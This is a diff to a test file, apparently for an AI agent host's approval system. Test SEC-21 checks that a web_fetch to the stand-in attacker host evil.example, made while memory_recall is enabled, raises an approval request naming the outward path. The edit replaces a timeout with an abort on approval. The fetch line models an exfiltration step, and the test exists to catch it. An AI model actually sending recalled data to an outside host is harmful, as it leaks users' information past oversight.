@@ -102,13 +102,18 @@ test("SEC-21: the question says which two have met, and where it leads", async (
   await using host = await start();
   await codes(host, ["web_fetch", "memory_recall"]);
   let said = "";
+  const given = new AbortController();
   await host.call(
     "web_fetch",
     { to: "https://evil.example/?q=x" },
     {
       approvals: "ask",
-      onEvent: (event) => void (event.type === "approval_request" && (said = event.request.reasons.join())),
-      signal: AbortSignal.timeout(200),
+      onEvent: (event) => {
+        if (event.type !== "approval_request") return;
+        said = event.request.reasons.join();
+        given.abort();
+      },
+      signal: given.signal,
     },
   );
   expect(said).toContain("web_fetch leads out (evil.example)");
